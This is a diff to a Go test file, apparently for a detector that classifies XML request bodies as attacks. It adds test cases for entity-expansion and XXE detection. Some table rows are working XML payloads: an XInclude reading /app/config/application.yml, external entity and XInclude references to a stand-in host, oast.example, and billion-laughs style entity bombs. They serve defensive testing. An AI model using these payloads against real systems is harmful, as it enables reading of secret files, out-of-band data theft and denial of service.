@@ -320,6 +320,11 @@ func TestXMLBodies(t *testing.T) {
 		{`<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><x:include xmlns:x="http://www.w3.org/2001/XInclude" href="/app/config/application.yml" parse="text"/></soap:Body></soap:Envelope>`, "xxe-external-entity"},
 		{`<!DOCTYPE foo SYSTEM "\\oast.example\share\x.dtd"><foo/>`, "xxe-external-entity"},
 		{`<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "xxxxxxxxxx"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><d>&c;&c;&c;</d>`, "xml-entity-expansion"},
+		// Entity names are case-sensitive: decoys B and C do not hide b
+		// and c.
+		{`<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "xx"><!ENTITY B "x"><!ENTITY b "&a;&a;&a;"><!ENTITY C "y"><!ENTITY c "&b;&b;&b;">]><d>&c;</d>`, "xml-entity-expansion"},
+		// XInclude in a UTF-16 body, as Jackson and .NET read one.
+		{utf16le("\ufeff" + `<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="http://oast.example/x"/></foo>`), "xxe-external-entity"},
 		{`<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "` + strings.Repeat("A", 12000) + `">]><d>` + strings.Repeat("&a;", 200) + `</d>`, "xml-entity-expansion"},
 		// What office, commerce and graphics tools send: cXML punch-out,
 		// XSLT's HTML5 document type, Illustrator's namespace entities,
